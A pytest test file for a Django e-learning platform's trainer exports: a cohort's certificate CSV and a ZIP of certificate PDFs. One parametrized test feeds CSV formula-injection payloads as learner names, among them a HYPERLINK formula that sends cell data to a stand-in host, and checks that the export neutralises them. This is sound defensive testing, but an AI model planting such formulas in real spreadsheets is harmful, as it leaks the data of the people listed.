"""The CSV of a cohort's certificates and the ZIP of their PDFs."""

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from typing import cast

import pytest
from django.http import StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from elearning import services
from elearning.models import Certificate, Cohort, Module, RevocationReason
from elearning.trainer import exports
from meldcode.accounts.models import User
from meldcode.audit.models import AuditEntry
from tests.elearning import factories
from tests.elearning.trainer import builders


def body(response: HttpResponseBase) -> bytes:
    """Return a streamed response's content."""
    return b"".join(cast(Iterator[bytes], cast(StreamingHttpResponse, response).streaming_content))


def csv_rows(client: Client, cohort: Cohort) -> list[list[str]]:
    response = client.get(reverse("trainer:export_csv", args=[cohort.pk]))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    content = body(response)
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def certificates(cohort: Cohort, modules: dict[str, Module]) -> dict[str, Certificate]:
    """Certificates of three members in two modules (valid, expired, revoked), and outsiders'."""
    first, second = modules["wat-is-mensenhandel"], modules["signalen-in-de-spreekkamer"]
    anna, bram, cor = builders.learners(3)
    builders.join(cohort, [anna, bram, cor])
    [stranger] = builders.learners(1, prefix="stranger", start=50)
    now = timezone.now()
    made = builders.bulk(
        Certificate,
        [
            builders.certificate(anna, first, code=builders.code(1), completed_at=now),
            builders.certificate(
                bram, first, code=builders.code(2), completed_at=now - timedelta(days=900)
            ),
            builders.certificate(
                cor,
                second,
                code=builders.code(3),
                completed_at=now,
                revoked_reason=RevocationReason.MISCONDUCT,
            ),
            builders.certificate(stranger, first, code=builders.code(4), completed_at=now),
        ],
    )
    return dict(zip(["valid", "expired", "revoked", "stranger"], made, strict=True))


def test_the_csv_has_one_row_per_members_certificate(
    trainer_client: Client, cohort: Cohort, certificates: dict[str, Certificate]
) -> None:
    with translation.override("nl"):
        header = exports.csv_header()
        states = {key: str(label) for key, label in exports.STATE_LABELS.items()}
        misconduct = str(RevocationReason.MISCONDUCT.label)
    rows = csv_rows(trainer_client, cohort)
    assert rows[0] == header
    assert len(header) == 10
    by_code = {row[6]: row for row in rows[1:]}
    assert set(by_code) == {certificates[k].code for k in ("valid", "expired", "revoked")}
    valid = certificates["valid"]
    row = by_code[valid.code]
    assert row[0] == valid.data["name"]
    assert valid.user is not None
    assert row[1] == valid.user.email
    assert row[2] == valid.user.big_number
    assert row[3] == valid.data["module"]["title"]["nl"]
    assert row[4] == valid.data["module"]["version"]
    assert row[5] == valid.data["completed_on"]
    assert row[7] == valid.valid_until.isoformat()
    assert row[8] == states["valid"]
    assert row[9] == ""
    assert by_code[certificates["expired"].code][8] == states["expired"]
    assert by_code[certificates["revoked"].code][8:] == [states["revoked"], misconduct]


def test_the_csv_takes_names_from_the_frozen_data(
    trainer_client: Client, cohort: Cohort, certificates: dict[str, Certificate]
) -> None:
    valid = certificates["valid"]
    User.objects.filter(pk=valid.user_id or 0).update(full_name="Renamed Later")
    row = next(r for r in csv_rows(trainer_client, cohort) if r[6] == valid.code)
    assert row[0] == valid.data["name"] != "Renamed Later"


def test_the_csv_uses_the_requests_language(
    trainer_client: Client, cohort: Cohort, certificates: dict[str, Certificate]
) -> None:
    trainer_client.cookies["django_language"] = "en"
    with translation.override("en"):
        header = exports.csv_header()
    rows = csv_rows(trainer_client, cohort)
    assert rows[0] == header
    valid = certificates["valid"]
    row = next(r for r in rows if r[6] == valid.code)
    assert row[3] == valid.data["module"]["title"]["en"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+31 6 1234",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_formulas_are_neutralised(
    trainer_client: Client, cohort: Cohort, modules: dict[str, Module], name: str
) -> None:
    [user] = builders.learners(1)
    builders.join(cohort, [user])
    builders.bulk(
        Certificate,
        [
            builders.certificate(
                user,
                modules["wat-is-mensenhandel"],
                code=builders.code(9),
                completed_at=timezone.now(),
                name=name,
            )
        ],
    )
    [_, row] = csv_rows(trainer_client, cohort)
    assert row[0] == "'" + name


def test_the_csv_of_an_empty_cohort_is_the_header(trainer_client: Client, cohort: Cohort) -> None:
    assert len(csv_rows(trainer_client, cohort)) == 1


def test_a_nine_digit_big_number_is_written_as_eleven(
    trainer_client: Client, cohort: Cohort, certificates: dict[str, Certificate]
) -> None:
    valid = certificates["valid"]
    User.objects.filter(pk=valid.user_id or 0).update(big_number="123456789")
    row = next(r for r in csv_rows(trainer_client, cohort) if r[6] == valid.code)
    assert row[2] == "00123456789"


def test_the_export_is_audited(
    trainer_client: Client, trainer: User, cohort: Cohort, certificates: dict[str, Certificate]
) -> None:
    csv_rows(trainer_client, cohort)
    assert AuditEntry.objects.filter(
        action="elearning.cohort_exported",
        target=f"cohort:{cohort.pk}",
        actor_id=trainer.pk,
        data={"kind": "csv"},
    ).exists()


def test_the_zip_holds_every_members_certificate_pdf(
    trainer_client: Client,
    cohort: Cohort,
    certificates: dict[str, Certificate],
    learner: User,
    module: Module,
) -> None:
    services.cohort_join(user=learner, code=cohort.join_code)
    issued = factories.complete(learner, module)
    response = trainer_client.get(reverse("trainer:export_zip", args=[cohort.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith("attachment;")
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    expected = [certificates[k] for k in ("valid", "expired", "revoked")] + [issued]
    assert sorted(archive.namelist()) == sorted(f"{c.module.slug}/{c.code}.pdf" for c in expected)
    for name in archive.namelist():
        assert archive.read(name).startswith(b"%PDF-")
    # The PDF kept at issue is the one in the ZIP.
    assert archive.read(f"{module.slug}/{issued.code}.pdf") == bytes(issued.pdf or b"")


def test_the_zip_of_an_empty_cohort_is_empty(trainer_client: Client, cohort: Cohort) -> None:
    response = trainer_client.get(reverse("trainer:export_zip", args=[cohort.pk]))
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert archive.namelist() == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("Anna", "Anna"), ("", ""), ("a=b", "a=b"), ("-", "'-")],
)
def test_neutralise(value: str, expected: str) -> None:
    assert exports.neutralise(value) == expected
